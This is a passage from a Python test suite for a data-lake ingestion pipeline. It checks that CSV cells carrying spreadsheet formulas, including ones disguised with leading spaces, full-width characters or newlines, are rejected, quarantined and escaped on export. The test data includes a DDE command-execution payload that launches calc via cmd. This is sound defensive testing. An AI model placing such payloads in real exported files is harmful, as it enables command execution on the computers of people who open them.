    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The JSON report keeps the raw values (JSON is not evaluated), and only the good row
    # reached the lake.
    assert landing.report is not None
    values = {v for r in landing.report["rejected_rows"] for v in r["values"].values()}
    assert set(FORMULAS) <= values
    assert [r["ticker"] for r in _curated_rows(local_stack, {good})] == [good]
    assert {k for k in landing.new_objects if k.startswith("quarantine/")} == {
        prefix + "report.json",
        prefix + "rows.csv",
    }
    assert before.demo == World.take(local_stack).demo


# Issue 14: what the first prefix rule missed (leading space, full-width forms, a leading LF).
DISGUISED_FORMULAS = [
    " =1+1",
    "\uff1d1+1",  # full-width =
    "\n=1+1",
    "\u3000@SUM(1+1)",  # ideographic space, then @
    "\uff0bcmd|' /C calc'!A0",  # full-width +
]


def test_disguised_formula_cells_are_escaped_in_the_exported_rows_csv(local_stack: Any) -> None:
    day = _day()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["date", "ticker", "close", "note"])
    for formula in DISGUISED_FORMULAS:
        writer.writerow([day, formula, "1.0", formula])  # BAD_TICKER
    landing = _land(
        local_stack, f"raw/prices/hostile-{uuid.uuid4().hex[:8]}/g.csv", out.getvalue().encode()
    )
    result = landing.result
    assert result["rejected_counts"]["BAD_TICKER"] == len(DISGUISED_FORMULAS), result
    prefix = result["quarantine_key"].removesuffix("report.json")
    exported = (
        local_stack.client("s3")
        .get_object(Bucket=local_stack.bucket, Key=prefix + "rows.csv")["Body"]
        .read()
    )
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8"), newline="")))
    assert [row[3:] for row in rows[1:]] == [["'" + f, "1.0", "'" + f] for f in DISGUISED_FORMULAS]
